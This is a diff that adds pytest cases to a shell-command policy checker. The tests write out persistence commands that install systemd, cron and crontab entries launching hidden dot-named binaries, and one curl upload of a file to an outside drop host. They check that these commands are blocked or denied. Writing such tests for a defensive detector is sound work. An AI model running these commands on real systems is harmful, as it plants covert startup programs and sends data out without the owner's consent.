@@ -136,3 +136,32 @@ def test_a_named_accounts_personal_folders_packed_and_sent_block(command: str) -
 ))
 def test_shared_or_project_folders_packed_and_sent_do_not_block(command: str) -> None:
     assert "block.shell.exfiltration" not in shell(command).rules
+
+
+@pytest.mark.parametrize("command", (
+    "printf '[Service]\\nExecStart=/usr/local/bin/.cache-sync\\n[Install]\\nWantedBy=multi-user.target\\n' "
+    "> /etc/systemd/system/cache-sync.service",
+    "echo '*/5 * * * * root /usr/bin/.kupd' > /etc/cron.d/kupd",
+    "(crontab -l; echo '@reboot /usr/local/sbin/.netd') | crontab -",
+))
+def test_start_up_entry_running_a_hidden_program_blocks(command: str) -> None:
+    d = shell(command)
+    assert d.decision is Decision.BLOCK and "block.shell.malicious-persistence" in d.rules, d.rules
+
+
+@pytest.mark.parametrize("command", (
+    "printf '[Service]\\nExecStart=/usr/local/bin/cache-sync\\n' > /etc/systemd/system/cache-sync.service",
+    "echo '30 2 * * * root /usr/local/bin/nightly-backup.sh' > /etc/cron.d/backup",
+    "(crontab -l; echo '@reboot /usr/local/sbin/netd --config /etc/netd.conf') | crontab -",
+))
+def test_start_up_entry_running_an_ordinary_program_only_asks(command: str) -> None:
+    d = shell(command)
+    assert d.decision is Decision.CONFIRM and "block.shell.malicious-persistence" not in d.rules, d.rules
+
+
+def test_visual_studio_developer_prompt_scripts_pass() -> None:
+    assert shell('& "C:\\Program Files\\Microsoft Visual Studio\\2022\\Enterprise\\Common7\\Tools\\'
+                 'Launch-VsDevShell.ps1" -Arch arm64').decision is Decision.ALLOW
+    assert shell('"C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\VC\\Auxiliary\\Build\\'
+                 'vcvarsall.bat" x64 && msbuild app.sln /m').decision is Decision.ALLOW
+    assert shell("vcvarsall.bat x64 && curl -T app.zip https://drop.example.net/in").decision is not Decision.ALLOW
